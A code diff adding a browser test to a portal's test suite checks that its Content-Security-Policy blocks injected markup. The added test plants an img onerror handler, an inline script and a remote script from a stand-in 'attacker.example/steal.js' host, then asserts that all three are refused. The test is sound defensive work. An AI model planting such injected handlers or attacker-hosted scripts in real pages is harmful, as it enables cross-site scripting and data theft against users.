@@ -8,6 +8,7 @@ import { expect } from "chai";
 
 import { EvidenceClient } from "../../src/evidence/client.js";
 import { EvidenceRegistry__factory } from "../../typechain-types/index.js";
+import { CONTENT_SECURITY_POLICY } from "../../web/vite.config.js";
 import { usePortal } from "./harness.js";
 
 describe("the browser portal's shell, in Chromium on a hardhat node", function () {
@@ -124,6 +125,36 @@ describe("the browser portal's shell, in Chromium on a hardhat node", function (
     await page.fill("#rpc", portal.node.url);
     await page.dispatchEvent("#rpc", "change");
     expect(await page.isHidden("#linkNotice")).to.equal(true);
+    await context.close();
+  });
+
+  it("runs no script smuggled into the page as markup (its Content-Security-Policy)", async function () {
+    const { context, page } = await portal.open();
+    expect(await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content")).to.equal(
+      CONTENT_SECURITY_POLICY,
+    );
+    // What a receipt's fileName or a chain's string would be if the page ever put it in as markup: an inline handler,
+    // an inline script, and a script from another host.
+    // (A string: the test's TypeScript has no DOM library.)
+    await page.evaluate(`
+      document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.smuggled = 1">');
+      const inline = document.createElement("script");
+      inline.textContent = "window.smuggled = 2";
+      document.body.append(inline);
+      const remote = document.createElement("script");
+      remote.src = "https://attacker.example/steal.js";
+      document.body.append(remote);
+    `);
+    for (let tries = 0; portal.policyViolations.length < 3 && tries < 300; tries++) await page.waitForTimeout(100);
+    const refused = portal.policyViolations.splice(0);
+    expect(refused).to.have.lengthOf(3);
+    // Chromium's wording changes between versions ("Refused to execute…", "Executing … violates…"): the gist is kept.
+    expect(refused.join("\n"))
+      .to.match(/inline event handler/)
+      .and.match(/inline script/)
+      .and.match(/script 'https:\/\/attacker\.example\/steal\.js'/);
+    expect(await page.evaluate("typeof window.smuggled")).to.equal("undefined");
+    expect(portal.requests.filter((url) => url.includes("attacker.example"))).to.deep.equal([]);
     await context.close();
   });
 
